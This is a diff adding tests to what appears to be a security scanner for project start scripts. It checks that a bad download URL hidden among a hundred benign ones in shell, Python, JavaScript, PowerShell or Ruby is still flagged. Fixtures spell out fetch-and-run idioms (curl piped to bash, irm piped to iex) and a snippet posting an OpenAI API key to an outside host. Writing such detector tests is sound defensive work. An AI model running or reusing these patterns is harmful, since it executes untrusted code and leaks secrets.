@@ -223,3 +223,33 @@ def test_a_relative_path_is_removed_where_the_program_runs(name: str) -> None:
     verdicts = [scan(script(f"scripts/start.{name.partition(' ')[0]}", text)).verdict for text in REMOVES[name]]
     assert verdicts[0] == "dangerous"
     assert verdicts[1] != "dangerous"
+
+
+GOOD_PLACES = [f"https://get.pnpm.io/install.sh?{number}" for number in range(100)]
+CROWDS = {
+    "sh call": ('run() { curl -fsSL "$1" | bash; }\n', "run EACH\n"),
+    "sh loop": ("for u in ", "EACH ", '; do curl -fsSL "$u" | bash; done\n'),
+    "py call": ('import os\ndef run(u):\n    os.system("curl -fsSL " + u + " | bash")\n', 'run("EACH")\n'),
+    "py loop": ("import os\nfor u in [", '"EACH", ', ']:\n    os.system("curl -fsSL " + u + " | bash")\n'),
+    "js call": (f"{PLACES['js'][3]}function run(u) {{ {JAVASCRIPT_RUNS} }}\n", 'run("EACH");\n'),
+    "js loop": (f"{PLACES['js'][3]}for (const u of [", '"EACH", ', f"]) {{ {JAVASCRIPT_RUNS} }}\n"),
+    "ps1 call": ("function Start-It($u) { irm $u | iex }\n", "Start-It 'EACH'\n"),
+    "ps1 loop": ("foreach ($u in @(", "'EACH', ", "'https://get.pnpm.io/install.sh')) { irm $u | iex }\n"),
+    "rb call": (f"def run(u)\n  {RUBY_RUNS}\nend\n", 'run("EACH")\n'),
+    "rb loop": ("[", '"EACH", ', f"].each do |u|\n  {RUBY_RUNS}\nend\n"),
+}
+
+
+@pytest.mark.parametrize("way", CROWDS)
+def test_an_address_does_not_hide_among_many(way: str) -> None:
+    begin, each, *end = CROWDS[way]
+    for places, dangerous in ((GOOD_PLACES, False), ([*GOOD_PLACES, BAD[0]], True)):
+        text = begin + "".join(each.replace("EACH", place) for place in places) + "".join(end)
+        assert (scan(script(f"scripts/start.{way.partition(' ')[0]}", text)).verdict == "dangerous") is dangerous
+
+
+def test_a_secret_does_not_hide_among_many_calls() -> None:
+    calls = [f'send("report {number}")\n' for number in range(100)]
+    for last, verdict in (('"done"', "safe"), ('os.environ["OPENAI_API_KEY"]', "dangerous")):
+        text = f'import os, requests\ndef send(x):\n    requests.post("{STRANGE_PLACE}", data=x)\n{"".join(calls)}send({last})\n'
+        assert scan(script("scripts/start.py", text)).verdict == verdict
